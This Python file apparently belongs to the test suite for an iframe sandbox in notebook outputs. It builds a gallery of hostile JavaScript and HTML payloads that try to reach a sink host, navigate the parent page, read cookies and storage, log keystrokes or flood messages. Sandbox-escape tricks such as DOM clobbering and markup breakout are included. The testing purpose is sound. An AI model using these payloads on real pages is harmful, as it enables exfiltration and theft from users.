"""Hostile outputs for isolated frames: each tries to reach the network, the page around it or the person before it."""

# ruff: noqa: E501 - an attack reads best in one piece

from __future__ import annotations

# What every attack may use: `send` by whatever means, `claim` what it has read of the page.
_TOOLS = """
const SINK = "{sink}", HOST = "{host}";
const claim = (what, value) => {{ top.postMessage({{claim: what, value: String(value).slice(0, 200)}}, "*"); }};
const attempt = (what, read) => {{ try {{ const value = read(); if (value) claim(what, value); }} catch (e) {{}} }};
"""

# name: script. In its text, NAME is the attack's name.
SCRIPTS = {
    # requests
    "fetch": "fetch(SINK + 'NAME', {mode: 'no-cors'})",
    "fetch-keepalive": "fetch(SINK + 'NAME', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "fetch-later": "window.fetchLater && fetchLater(SINK + 'NAME', {activateAfter: 0})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', SINK + 'NAME'); x.send()",
    "xhr-sync": "const x = new XMLHttpRequest(); x.open('GET', SINK + 'NAME', false); x.send()",
    "beacon": "navigator.sendBeacon(SINK + 'NAME', 'x')",
    "websocket": "new WebSocket(SINK.replace('http', 'ws') + 'NAME')",
    "event-source": "new EventSource(SINK + 'NAME')",
    "web-transport": "new WebTransport('https://' + HOST + '/NAME')",
    "image-object": "new Image().src = SINK + 'NAME'",
    "audio-object": "new Audio(SINK + 'NAME').load()",
    "font": "new FontFace('x', `url(${SINK}NAME)`).load()",
    "import": "import(SINK + 'NAME')",
    "import-from-blob": "import(URL.createObjectURL(new Blob([`import '${SINK}NAME'`], {type: 'text/javascript'})))",
    "script": "const s = document.createElement('script'); s.src = SINK + 'NAME'; document.head.append(s)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${SINK}NAME', {mode: 'no-cors'})`])))",
    "worker-data": "new Worker(`data:text/javascript,fetch('${SINK}NAME', {mode: 'no-cors'})`)",
    "shared-worker": "new SharedWorker(`data:text/javascript,importScripts('${SINK}NAME')`)",
    "service-worker": "navigator.serviceWorker.register(SINK + 'NAME')",
    "worklet": "new AudioContext().audioWorklet.addModule(SINK + 'NAME')",
    "style-text": "document.head.append(Object.assign(document.createElement('style'), "
    "{textContent: `@import '${SINK}NAME'; body {background: url(${SINK}NAME)}`}))",
    "style-object": "document.body.style.backgroundImage = `url(${SINK}NAME)`",
    "style-sheet": "const s = new CSSStyleSheet(); s.replaceSync(`body {cursor: url(${SINK}NAME), auto}`); "
    "document.adoptedStyleSheets = [s]",
    "media-session": "navigator.mediaSession.metadata = new MediaMetadata({artwork: [{src: SINK + 'NAME'}]})",
    "link-element": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'preconnect', href: SINK + 'NAME'}), Object.assign(document.createElement('link'), "
    "{rel: 'prefetch', href: SINK + 'NAME'}))",
    "link-stylesheet": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'stylesheet', href: SINK + 'NAME'}))",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = "
    "JSON.stringify({prefetch: [{source: 'list', urls: [SINK + 'NAME']}]}); document.head.append(s)",
    "webrtc": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:' + HOST}]}); p.createDataChannel('x'); "
    "p.createOffer().then(o => p.setLocalDescription(o)); claim('NAME', 'a peer connection')",
    # frames inside, whose realm would have WebRTC again
    "frame-address": "const f = document.createElement('iframe'); f.src = SINK + 'NAME'; document.body.append(f)",
    "frame-text": "const f = document.createElement('iframe'); f.srcdoc = "
    "`<script>top.postMessage({claim: 'NAME', value: 1}, '*')</script>`; document.body.append(f)",
    "frame-markup": "document.body.insertAdjacentHTML('beforeend', "
    "`<iframe srcdoc=\"<script>top.postMessage({claim: 'NAME', value: 1}, '*')</script>\"></iframe>`)",
    "frame-case": "document.body.insertAdjacentHTML('beforeend', "
    "`<IfRaMe/src=\"javascript:top.postMessage({claim: 'NAME', value: 1}, '*')\"></IfRaMe>`)",
    "frame-namespaced": "const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:iframe'); "
    "f.srcdoc = `<script>top.postMessage({claim: 'NAME', value: 1}, '*')</script>`; document.body.append(f)",
    "frame-xml": "const d = new DOMParser().parseFromString(`<!DOCTYPE a [<!ENTITY e '&#60;h:iframe "
    'xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:top.postMessage({claim:/NAME/.source,value:1},String.fromCharCode(42))"/>\'>]>'
    "<a>&e;</a>`, 'text/xml'); document.body.append(document.importNode(d.documentElement, true))",
    "frame-xml-inner": "const d = new Document(); d.append(d.createElement('a')); d.documentElement.innerHTML = "
    "`<h:iframe xmlns:h='http://www.w3.org/1999/xhtml' src='javascript:top.postMessage({claim:/NAME/.source,value:1},String.fromCharCode(42))'/>`; "
    "document.body.append(d.documentElement.firstChild)",
    "frame-document": "const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe'); "
    "d.documentElement.srcdoc = `<script>top.postMessage({claim: 'NAME', value: 1}, '*')</script>`; document.body.append(d.documentElement)",
    "frame-custom": "customElements.define('x-f', class extends HTMLIFrameElement {}, {extends: 'iframe'}); "
    "const f = new (customElements.get('x-f'))(); claim('NAME', f.localName)",
    "frame-written": "document.write('<ifr'); document.write(`ame srcdoc=\"<script>"
    "top.postMessage({claim: 'NAME', value: 1}, '*')</script>\"></iframe>`)",
    "frame-template": "const t = document.createElement('template'); t.innerHTML = `<iframe srcdoc=\"<script>"
    "top.postMessage({claim: 'NAME', value: 1}, '*')</script>\"></iframe>`; document.body.append(t.content)",
    "frame-set-html": "const d = document.createElement('div'); d.setHTML(`<iframe srcdoc='x'></iframe>`, "
    "{sanitizer: {removeElements: []}}); document.body.append(d); "
    "if (d.querySelector('iframe')) claim('NAME', 'a frame')",
    "object": "const o = document.createElement('object'); o.data = SINK + 'NAME'; document.body.append(o)",
    "embed": "const o = document.createElement('embed'); o.src = SINK + 'NAME'; document.body.append(o)",
    "policy-of-its-own": "const p = trustedTypes.createPolicy('mine', {createHTML: x => x}); claim('NAME', p.name)",
    "patched-natives": "String.prototype.slice = String.prototype.toLowerCase = String.prototype.indexOf = () => ''; "
    "Array.prototype[Symbol.iterator] = function* () {}; Reflect.apply = () => document.body; "
    "document.body.insertAdjacentHTML('beforeend', "
    "`<iframe srcdoc=\"<script>top.postMessage({claim: 'NAME', value: 1}, '*')</script>\"></iframe>`)",
    # navigations
    "location": "location.href = SINK + 'NAME?' + document.title",
    "location-replace": "location.replace(SINK + 'NAME')",
    "location-blob": "location.href = URL.createObjectURL(new Blob([`<script>top.postMessage("
    "{claim: 'NAME', value: 1}, '*'); fetch('${SINK}NAME')</script>`], {type: 'text/html'}))",
    "location-data": "location.href = `data:text/html,<script>top.postMessage({claim: 'NAME', value: 1}, '*')</script>`",
    "location-javascript": 'location.href = `javascript:"<link rel=prefetch href=${SINK}NAME><script>'
    "top.postMessage({claim: 'NAME', value: 1}, '*')<\\/script>\"`",
    "navigate": "navigation.navigate(SINK + 'NAME')",
    "link-clicked": "const a = document.createElement('a'); a.href = SINK + 'NAME'; document.body.append(a); a.click()",
    "link-downloaded": "const a = document.createElement('a'); a.href = SINK + 'NAME'; a.download = 'x'; "
    "document.body.append(a); a.click()",
    "link-pinged": "const a = document.createElement('a'); a.href = '#x'; a.ping = SINK + 'NAME'; "
    "document.body.append(a); a.click()",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + SINK + 'NAME'; "
    "document.head.append(m)",
    "form": "document.body.insertAdjacentHTML('beforeend', `<form action=${SINK}NAME method=post><input name=a></form>`); "
    "document.forms[0].submit()",
    "popup": "window.open(SINK + 'NAME')",
    "popup-self": "window.open(SINK + 'NAME', '_self')",
    "popup-blank": "const w = window.open('about:blank'); w.location = SINK + 'NAME'",
    "parent": "parent.location = SINK + 'NAME'",
    "top": "top.location = SINK + 'NAME'",
    "siblings": "for (let i = 0; i < top.length; i++) if (top[i] !== parent) try { top[i].location = SINK + 'NAME' } catch (e) {}",
    "top-window": "window.open(SINK + 'NAME', '_top')",
    # the page
    "cookie": "attempt('NAME', () => document.cookie); attempt('NAME', () => top.document.cookie)",
    "storage": "attempt('NAME', () => localStorage.length + 1); attempt('NAME', () => top.localStorage.length + 1)",
    "page": "attempt('NAME', () => top.document.body.innerHTML); attempt('NAME', () => parent.document.title); "
    "attempt('NAME', () => frameElement.outerHTML)",
    "page-address": "attempt('NAME', () => top.location.href); attempt('NAME', () => parent.parent.location.search); "
    "attempt('NAME', () => location.ancestorOrigins[0] === 'null' ? '' : document.referrer)",
    "page-variable": "attempt('NAME', () => { top.ran = 1; return top.ran; })",
    "page-eval": "attempt('NAME', () => top.eval('document.cookie')); attempt('NAME', () => top.jupyterapp.name)",
    "page-name": "attempt('NAME', () => { top.name = 'taken'; return top.name; })",
    "dialog": "attempt('NAME', () => confirm('x')); attempt('NAME', () => prompt('x', 'y'))",
    "full-screen": "document.documentElement.requestFullscreen().then(() => claim('NAME', 1))",
    "focus": "document.body.insertAdjacentHTML('beforeend', '<input id=i>'); const i = document.getElementById('i'); "
    "i.onkeydown = e => claim('NAME', e.key); i.onfocus = () => claim('NAME', 'focus'); "
    "setInterval(() => { window.focus(); i.focus(); i.select() }, 50)",
    "height": "top.postMessage({ipysandboxHeight: 1e9}, '*'); parent.parent.postMessage({ipysandboxHeight: 1e9}, '*'); "
    "document.body.style.height = '1000000px'",
    "flood": "let n = 0; const t = setInterval(() => { for (let i = 0; i < 200; i++) top.postMessage("
    "{ipysandboxHeight: i}, '*'); if (++n > 20) clearInterval(t) }, 10)",
}

MARKUP = {
    "markup-image": "<img src={sink}NAME><img srcset='{sink}NAME 1x'><picture><source srcset={sink}NAME><img></picture>",
    "markup-media": "<video src={sink}NAME poster={sink}NAME autoplay></video><audio src={sink}NAME autoplay></audio>",
    "markup-link": "<link rel=stylesheet href={sink}NAME><link rel=prefetch href={sink}NAME>"
    "<link rel=preconnect href={sink}NAME><link rel=icon href={sink}NAME><link rel=manifest href={sink}NAME>",
    "markup-refresh": "<meta http-equiv=refresh content='0;url={sink}NAME'>",
    "markup-frame": "<iframe src={sink}NAME></iframe><object data={sink}NAME></object><embed src={sink}NAME>",
    "markup-frame-in-template": "<template><iframe srcdoc='<script>top.postMessage({{claim: /NAME/.source, value: 1}}, String.fromCharCode(42))"
    "</script>'></iframe></template><script>document.body.append("
    "document.querySelector('template').content)</script>",
    "markup-clobbered": "<form id=f><input name=localName><input name=remove><input name=attributes></form>"
    "<img name=body><img name=head><img name=createElement><iframe src={sink}NAME></iframe>",
    "markup-script": "<script src={sink}NAME></script><script type=module src={sink}NAME></script>",
    "markup-speculation": '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{sink}NAME"]}}]}}</script>',
    "markup-style": "<style>@import '{sink}NAME'; @font-face {{ font-family: x; src: url({sink}NAME) }} "
    "body {{ font-family: x; background: url({sink}NAME) }} p {{ filter: url({sink}NAME#x) }}</style><p>x",
    "markup-svg": "<svg><image href={sink}NAME /><use href={sink}NAME#x /><feImage href={sink}NAME /></svg>",
    "markup-base": "<base href={sink}><img src=NAME><a href=NAME id=a>x</a>",
    "markup-form": "<form action={sink}NAME><input type=image src={sink}NAME></form>",
    "markup-breaks-out": "</script></body></html>\"></iframe>'></iframe><img src={sink}NAME><script>top.ran = 1</script>",
}


def gallery(sink: str) -> dict[str, str]:
    """All of them, sending to ``sink`` (an address that ends in a slash)."""
    tools = _TOOLS.format(sink=sink, host=sink.split("/")[2])
    quoted = {name: text.replace("</script>", "<\\/script>") for name, text in SCRIPTS.items()}
    scripts = {name: f"<p>{name}</p><script>{{{tools}{text}}}</script>" for name, text in quoted.items()}
    # The empty script makes it an output that asks for a frame.
    markup = {name: text.format(sink=sink) + "<script></script>" for name, text in MARKUP.items()}
    return {name: text.replace("NAME", name) for name, text in {**scripts, **markup}.items()}
